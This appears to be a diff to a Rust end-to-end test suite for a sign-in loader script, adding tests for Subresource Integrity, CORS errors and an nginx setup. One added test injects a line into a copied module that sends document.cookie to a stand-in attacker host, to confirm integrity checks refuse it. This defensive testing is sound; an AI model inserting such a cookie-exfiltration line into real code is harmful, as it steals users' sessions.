@@ -1,6 +1,11 @@
 //! The loader on a stranger's site: the customer's page is served by a plain static file server
 //! (Python's `http.server`, not our dev host) on a third origin, loads `wl.js` from the dev host
-//! as from a CDN, and signs in against the provider, with the callback on its own origin.
+//! as from a CDN, and signs in against the provider, with the callback on its own origin: the
+//! one-line file `<!doctype html><script src="https://LOADER/wl.js"></script>`.
+//!
+//! And the loader's copy on a fourth origin, served by a plain static server: with a module
+//! altered (Subresource Integrity refuses it: `integrity_failed`), and without CORS headers (a
+//! console error names `Access-Control-Allow-Origin` and docs/hosting.md: `connection_failed`).
 
 use serde_json::{Value as Json, json};
 use std::path::Path;
@@ -17,6 +22,10 @@ pub fn cases() -> Vec<wl_e2e::Case> {
     wl_e2e::cases![
         cdn::snippet_on_a_third_origin_signs_in,
         cdn::snippet_on_a_third_origin_under_a_strict_csp_signs_in,
+        cdn::an_altered_wasm_module_is_refused,
+        cdn::an_altered_glue_module_is_refused,
+        cdn::a_copy_without_cors_headers_names_the_header,
+        cdn::through_nginx_configured_as_documented_signs_in,
     ]
 }
 
@@ -26,7 +35,8 @@ pub async fn snippet_on_a_third_origin_signs_in(env: &Env) -> Result<()> {
 }
 
 /// The same page under a strict CSP: no `unsafe-inline`, `script-src` naming only the loader's
-/// host and `'wasm-unsafe-eval'`.
+/// host and `'wasm-unsafe-eval'`; and `integrity` on the script tag (the hash docs/hosting.md
+/// says how to compute), which then covers the modules wl.js loads.
 pub async fn snippet_on_a_third_origin_under_a_strict_csp_signs_in(env: &Env) -> Result<()> {
     third_origin_sign_in(env, true).await
 }
@@ -41,10 +51,6 @@ async fn third_origin_sign_in(env: &Env, strict_csp: bool) -> Result<()> {
         .prefix("wl-e2e-customer-")
         .tempdir()?;
     let dist = paths::wl_dist()?;
-    // The callback, in one copy on the customer's origin, as the README asks.
-    for file in ["callback.html", "callback.js"] {
-        std::fs::copy(dist.join(file), root.path().join(file))?;
-    }
     let csp = if strict_csp {
         format!(
             "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; \
@@ -56,10 +62,26 @@ async fn third_origin_sign_in(env: &Env, strict_csp: bool) -> Result<()> {
     } else {
         String::new()
     };
+    // The callback, in one copy on the customer's origin: one line (under the same CSP).
+    std::fs::write(
+        root.path().join("callback.html"),
+        format!(
+            "<!doctype html>{csp}<script src=\"{site}/wl.js\"></script>\n",
+            site = server.site
+        ),
+    )?;
+    let integrity = if strict_csp {
+        format!(
+            " integrity=\"sha384-{}\" crossorigin=\"anonymous\"",
+            sri384(&dist.join("wl.js"))?
+        )
+    } else {
+        String::new()
+    };
     let page = format!(
         "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">{csp}\
          <title>A customer's site</title></head><body>\n<h1>A customer's site</h1>\n\
-         <script src=\"{site}/wl.js\" data-client-id=\"{client_id}\" data-authority=\"{provider}\" \
+         <script src=\"{site}/wl.js\"{integrity} data-client-id=\"{client_id}\" data-authority=\"{provider}\" \
          data-scope=\"wl.signin wl.basic\" data-redirect-uri=\"{customer}/callback.html\"></script>\n\
          <wl-signin theme=\"blue\"></wl-signin>\n<wl-userinfo layout=\"compact\"></wl-userinfo>\n\
          </body></html>\n",
@@ -67,7 +89,7 @@ async fn third_origin_sign_in(env: &Env, strict_csp: bool) -> Result<()> {
         provider = server.provider,
     );
     std::fs::write(root.path().join("index.html"), page)?;
-    let _static_server = static_server(root.path(), port)?;
+    let _static_server = static_server(root.path(), port, false, "index.html")?;
 
     let b = env.browser().await?;
     b.goto(&format!("{customer}/index.html")).await?;
@@ -124,17 +146,22 @@ pub(crate) fn register_app(data_dir: &Path, origin: &str) -> Result<String> {
     Ok(id)
 }
 
-/// `python3 -m http.server` on `port`, serving `dir`; ready when it answers.
-pub(crate) fn static_server(dir: &Path, port: u16) -> Result<GroupChild> {
+/// Python's `http.server` on `port`, serving `dir` (with `cors`, plus
+/// `Access-Control-Allow-Origin: *` on every answer); ready when `ready` answers 200.
+pub(crate) fn static_server(dir: &Path, port: u16, cors: bool, ready: &str) -> Result<GroupChild> {
     let mut cmd = Command::new("python3");
-    cmd.args(["-m", "http.server", "--bind", "127.0.0.1"])
-        .arg(port.to_string())
+    if cors {
+        cmd.args(["-c", CORS_SERVER]);
+    } else {
+        cmd.args(["-m", "http.server", "--bind", "127.0.0.1"]);
+    }
+    cmd.arg(port.to_string())
         .current_dir(dir)
         .stdin(Stdio::null())
         .stdout(Stdio::null())
         .stderr(Stdio::null());
     let mut child = GroupChild::spawn(cmd, "python3 -m http.server")?;
-    let url = format!("http://127.0.0.1:{port}/index.html");
+    let url = format!("http://127.0.0.1:{port}/{ready}");
     let timeout = Duration::from_secs(10);
     http::wait_for_200(&url, timeout).map_err(|last| E2eError::Timeout {
         what: format!("{url} to answer 200"),
@@ -143,4 +170,338 @@ pub(crate) fn static_server(dir: &Path, port: u16) -> Result<GroupChild> {
     })?;
     child.ensure_running()?;
     Ok(child)
+}
+
+/// `http.server`'s static files with `Access-Control-Allow-Origin: *` (the port is `argv[1]`).
+const CORS_SERVER: &str = "import http.server, sys
+class H(http.server.SimpleHTTPRequestHandler):
+    def end_headers(self):
+        self.send_header('Access-Control-Allow-Origin', '*')
+        super().end_headers()
+http.server.ThreadingHTTPServer(('127.0.0.1', int(sys.argv[1])), H).serve_forever()
+";
+
+/// `openssl dgst -sha384 -binary FILE | openssl base64 -A`, as docs/hosting.md says to compute
+/// the script tag's `integrity`.
+fn sri384(file: &Path) -> Result<String> {
+    let out = Command::new("sh")
+        .arg("-c")
+        .arg("openssl dgst -sha384 -binary \"$1\" | openssl base64 -A")
+        .arg("sh")
+        .arg(file)
+        .stdin(Stdio::null())
+        .output()?;
+    let hash = String::from_utf8_lossy(&out.stdout).trim().to_owned();
+    if !out.status.success() || hash.len() != 64 {
+        return Err(E2eError::Process {
+            program: "openssl dgst -sha384".into(),
+            message: String::from_utf8_lossy(&out.stderr).into_owned(),
+        });
+    }
+    Ok(hash)
+}
+
+/// What is done to the loader's copy on the fourth origin.
+#[derive(Clone, Copy, PartialEq)]
+enum Copy {
+    /// The sign-in page's wasm altered by one byte, served with CORS.
+    AlteredWasm,
+    /// The sign-in page's glue altered (a statement appended), served with CORS.
+    AlteredGlue,
+    /// Unaltered, served without any CORS header.
+    NoCors,
+}
+
+/// A copy of the package whose `wl_connect_controls_bg.<hash>.wasm` was altered (same name):
+/// refused by Subresource Integrity, never run; `WL.login`, `WL.api` and the controls report
+/// `integrity_failed`.
+pub async fn an_altered_wasm_module_is_refused(env: &Env) -> Result<()> {
+    broken_copy(env, Copy::AlteredWasm).await
+}
+
+/// The same with the module's JavaScript glue altered.
+pub async fn an_altered_glue_module_is_refused(env: &Env) -> Result<()> {
+    broken_copy(env, Copy::AlteredGlue).await
+}
+
+/// A self-hosted copy served without `Access-Control-Allow-Origin`: the console names the
+/// header and docs/hosting.md, and everything reports `connection_failed` (never hangs).
+pub async fn a_copy_without_cors_headers_names_the_header(env: &Env) -> Result<()> {
+    broken_copy(env, Copy::NoCors).await
+}
+
+async fn broken_copy(env: &Env, what: Copy) -> Result<()> {
+    let server = env.server()?;
+    let (port, loader_port) = (http::free_port()?, http::free_port()?);
+    let customer = format!("http://127.0.0.1:{port}");
+    let loader = format!("http://127.0.0.1:{loader_port}");
+    let dist = paths::wl_dist()?;
+
+    let copy = tempfile::Builder::new().prefix("wl-e2e-copy-").tempdir()?;
+    std::fs::create_dir(copy.path().join("pkg"))?;
+    std::fs::copy(dist.join("wl.js"), copy.path().join("wl.js"))?;
+    for entry in std::fs::read_dir(dist.join("pkg"))? {
+        let entry = entry?;
+        let name = entry.file_name();
+        let to = copy.path().join("pkg").join(&name);
+        let mut bytes = std::fs::read(entry.path())?;
+        let name = name.to_string_lossy();
+        if name.starts_with("wl_connect_controls_bg.") && what == Copy::AlteredWasm {
+            // A byte in the last function body: still the same size, same name.
+            let last = bytes.len() - 1;
+            bytes[last - 8] ^= 0x01;
+        }
+        if name.starts_with("wl_connect_controls.") && what == Copy::AlteredGlue {
+            bytes.extend_from_slice(b"\nfetch('https://attacker.invalid/?' + document.cookie);\n");
+        }
+        std::fs::write(to, bytes)?;
+    }
+    let _loader = static_server(copy.path(), loader_port, what != Copy::NoCors, "wl.js")?;
+
+    let root = tempfile::Builder::new()
+        .prefix("wl-e2e-customer-")
+        .tempdir()?;
+    let page = format!(
+        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
+         <title>A customer's site</title></head><body>\n\
+         <script src=\"{loader}/wl.js\" data-client-id=\"wl-demo\" data-authority=\"{provider}\" \
+         data-scope=\"wl.signin wl.basic\" data-redirect-uri=\"{customer}/callback.html\"></script>\n\
+         <wl-signin theme=\"blue\"></wl-signin>\n<wl-userinfo layout=\"compact\"></wl-userinfo>\n\
+         </body></html>\n",
+        provider = server.provider,
+    );
+    std::fs::write(root.path().join("index.html"), page)?;
+    let _customer = static_server(root.path(), port, false, "index.html")?;
+
+    let b = env.browser().await?;
+    let _ = b.console_log().await;
+    b.goto(&format!("{customer}/index.html")).await?;
+    let code = if what == Copy::NoCors {
+        "connection_failed"
+    } else {
+        "integrity_failed"
+    };
+    // The controls show it (and fire `wl-error`) rather than waiting for ever.
+    let shown = b
+        .wait_js(
+            "both controls' data-wl-error",
+            Duration::from_secs(15),
+            "const s = document.querySelector('wl-signin').getAttribute('data-wl-error');
+             const u = document.querySelector('wl-userinfo').getAttribute('data-wl-error');
+             return s && u ? [s, u] : null;",
+        )
+        .await?;
+    check(
+        shown == json!([code, code]),
+        format!("the controls should show {code}: {shown}"),
+    )?;
+    // WL.api and WL.login reject with the code, promptly (each retries the load).
+    let answers = b
+        .js(
+            "const t = (p) => Promise.race([p.then(r => ({ resolved: r }), e => e.code || String(e)),
+                 new Promise(r => setTimeout(() => r('hung'), 10000))]);
+             return Promise.all([t(WL.api({ path: 'me' })), t(WL.login()), t(WL.getLoginStatus())]);",
+            vec![],
+        )
+        .await?;
+    check(
+        answers == json!([code, code, code]),
+        format!("WL.api, WL.login and WL.getLoginStatus should reject with {code}: {answers}"),
+    )?;
+    let log = b.console_log().await;
+    let named = log.iter().any(|l| {
+        l.contains("Access-Control-Allow-Origin")
+            && l.contains("docs/hosting.md")
+            && l.contains(&loader)
+    });
+    check(
+        named == (what == Copy::NoCors),
+        format!(
+            "the console should {}name the missing header and docs/hosting.md: {log:?}",
+            if named { "not " } else { "" }
+        ),
+    )?;
+    if what == Copy::AlteredGlue {
+        // The altered glue never ran.
+        let ran = b
+            .js(
+                "return performance.getEntriesByType('resource').some(e => e.name.includes('attacker.invalid'));",
+                vec![],
+            )
+            .await?;
+        check(ran == json!(false), "the altered glue must not run")?;
+    }
+    Ok(())
+}
+
+/// The package served by Debian's nginx with exactly the configuration docs/hosting.md gives
+/// (read from the doc): the headers it promises, `If-None-Match` → 304, the versioned path, and a
+/// customer page on another origin signing in through `/v1/wl.js` (with the one-line callback).
+pub async fn through_nginx_configured_as_documented_signs_in(env: &Env) -> Result<()> {
+    let server = env.server()?;
+    let dist = paths::wl_dist()?;
+    let (port, cdn_port) = (http::free_port()?, http::free_port()?);
+    let customer = format!("http://127.0.0.1:{port}");
+    let cdn = format!("http://127.0.0.1:{cdn_port}");
+    let _nginx = nginx(&dist, cdn_port)?;
+
+    // The headers, as docs/hosting.md's table says.
+    let wasm = std::fs::read_dir(dist.join("pkg"))?
+        .filter_map(|f| f.ok().map(|f| f.file_name().to_string_lossy().into_owned()))
+        .find(|n| n.starts_with("wl_connect_controls_bg.") && n.ends_with(".wasm"))
+        .ok_or_else(|| E2eError::Missing {
+            what: "the combined module's wasm",
+            path: dist.join("pkg").display().to_string(),
+            hint: "run `cargo xtask build`",
+        })?;
+    let head = raw_get(cdn_port, &format!("/v1/pkg/{wasm}"), None)?;
+    for want in [
+        " 200 ",
+        "content-type: application/wasm",
+        "cache-control: public, max-age=31536000, immutable",
+        "access-control-allow-origin: *",
+        "cross-origin-resource-policy: cross-origin",
+    ] {
+        check(
+            head.to_ascii_lowercase().contains(want),
+            format!("/v1/pkg/{wasm} through nginx should have `{want}`: {head}"),
+        )?;
+    }
+    let head = raw_get(cdn_port, "/v1/wl.js", None)?;
+    for want in [
+        " 200 ",
+        "javascript",
+        "cache-control: public, max-age=300",
+        "access-control-allow-origin: *",
+        "etag: \"",
+    ] {
+        check(
+            head.to_ascii_lowercase().contains(want),
+            format!("/v1/wl.js through nginx should have `{want}`: {head}"),
+        )?;
+    }
+    let etag = head
+        .lines()
+        .find_map(|l| {
+            l.split_once(':')
+                .filter(|(k, _)| k.eq_ignore_ascii_case("etag"))
+                .map(|(_, v)| v.trim().to_owned())
+        })
+        .unwrap_or_default();
+    let again = raw_get(cdn_port, "/v1/wl.js", Some(&etag))?;
+    check(
+        again.starts_with("HTTP/1.1 304"),
+        format!("If-None-Match: {etag} should be answered 304: {again}"),
+    )?;
+
+    // A customer's page loading the versioned path, and its one-line callback.
+    let client_id = register_app(server.data_dir(), &customer)?;
+    let root = tempfile::Builder::new()
+        .prefix("wl-e2e-customer-")
+        .tempdir()?;
+    std::fs::write(
+        root.path().join("callback.html"),
+        format!("<!doctype html><script src=\"{cdn}/v1/wl.js\"></script>\n"),
+    )?;
+    std::fs::write(
+        root.path().join("index.html"),
+        format!(
+            "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\
+             <title>A customer's site</title></head><body>\n\
+             <script src=\"{cdn}/v1/wl.js\" data-client-id=\"{client_id}\" data-authority=\"{provider}\" \
+             data-scope=\"wl.signin wl.basic\" data-redirect-uri=\"{customer}/callback.html\"></script>\n\
+             <wl-signin theme=\"blue\"></wl-signin>\n<wl-userinfo layout=\"compact\"></wl-userinfo>\n\
+             </body></html>\n",
+            provider = server.provider,
+        ),
+    )?;
+    let _customer = static_server(root.path(), port, false, "index.html")?;
+    let b = env.browser().await?;
+    b.goto(&format!("{customer}/index.html")).await?;
+    flow::wait_button_text(&b, "wl-signin", "sign in", Duration::from_secs(15)).await?;
+    flow::click_control_button(&b, "wl-signin").await?;
+    flow::sign_in_in_popup(&b, &server.provider, "alice", Decision::Allow).await?;
+    flow::wait_userinfo_shows(&b, "wl-userinfo", "Alice", Duration::from_secs(10)).await?;
+    Ok(())
+}
+
+/// nginx (Debian's, `cargo xtask test` installs it) in the foreground on `port`, serving `dist`
+/// with the `nginx` block of docs/hosting.md inside its `server { }`.
+fn nginx(dist: &Path, port: u16) -> Result<(GroupChild, tempfile::TempDir)> {
+    let doc = std::fs::read_to_string(paths::repo_root().join("docs/hosting.md"))?;
+    let block = doc
+        .split_once("```nginx\n")
+        .and_then(|(_, rest)| rest.split_once("```"))
+        .map(|(block, _)| block.to_owned())
+        .ok_or_else(|| E2eError::Missing {
+            what: "the nginx configuration in docs/hosting.md",
+            path: "docs/hosting.md".into(),
+            hint: "a ```nginx block in the doc",
+        })?;
+    let dir = tempfile::Builder::new().prefix("wl-e2e-nginx-").tempdir()?;
+    let d = dir.path().display();
+    let conf = format!(
+        "daemon off;\nmaster_process off;\npid {d}/nginx.pid;\nerror_log {d}/error.log;\n\
+         events {{ worker_connections 64; }}\n\
+         http {{\n  include /etc/nginx/mime.types;\n  default_type application/octet-stream;\n\
+           access_log off;\n  client_body_temp_path {d}/body;\n  proxy_temp_path {d}/proxy;\n\
+           fastcgi_temp_path {d}/fastcgi;\n  uwsgi_temp_path {d}/uwsgi;\n  scgi_temp_path {d}/scgi;\n\
+           server {{\n    listen 127.0.0.1:{port};\n    root {root};\n{block}\n  }}\n}}\n",
+        root = dist.display(),
+    );
+    let conf_path = dir.path().join("nginx.conf");
+    std::fs::write(&conf_path, conf)?;
+    let bin = ["/usr/sbin/nginx", "/usr/local/sbin/nginx"]
+        .into_iter()
+        .map(Path::new)
+        .find(|p| p.is_file())
+        .ok_or_else(|| E2eError::Missing {
+            what: "nginx (Debian's `nginx`; `cargo xtask test` installs it)",
+            path: "/usr/sbin/nginx".into(),
+            hint: "apt-get install nginx",
+        })?;
+    let mut cmd = Command::new(bin);
+    cmd.arg("-p")
+        .arg(dir.path())
+        .arg("-e")
+        .arg(dir.path().join("error.log"))
+        .arg("-c")
+        .arg(&conf_path)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null());
+    let mut child = GroupChild::spawn(cmd, "nginx")?;
+    let url = format!("http://127.0.0.1:{port}/wl.js");
+    let timeout = Duration::from_secs(10);
+    http::wait_for_200(&url, timeout).map_err(|last| E2eError::Timeout {
+        what: format!("nginx at {url} to answer 200"),
+        timeout,
+        last: format!(
+            "; last seen: {last:?}; error.log: {}",
+            std::fs::read_to_string(dir.path().join("error.log")).unwrap_or_default()
+        ),
+    })?;
+    child.ensure_running()?;
+    Ok((child, dir))
+}
+
+/// `GET path` on 127.0.0.1:`port` (with `If-None-Match: tag`); the status line and headers.
+fn raw_get(port: u16, path: &str, if_none_match: Option<&str>) -> Result<String> {
+    use std::io::{Read, Write};
+    let mut tcp = std::net::TcpStream::connect(("127.0.0.1", port))?;
+    tcp.set_read_timeout(Some(Duration::from_secs(5)))?;
+    let extra = if_none_match
+        .map(|t| format!("If-None-Match: {t}\r\n"))
+        .unwrap_or_default();
+    write!(
+        tcp,
+        "GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nOrigin: http://127.0.0.1:1\r\n{extra}Connection: close\r\n\r\n"
+    )?;
+    let mut out = Vec::new();
+    tcp.read_to_end(&mut out)?;
+    let text = String::from_utf8_lossy(&out);
+    Ok(text
+        .split_once("\r\n\r\n")
+        .map_or(text.as_ref(), |(head, _)| head)
+        .to_owned())
 }
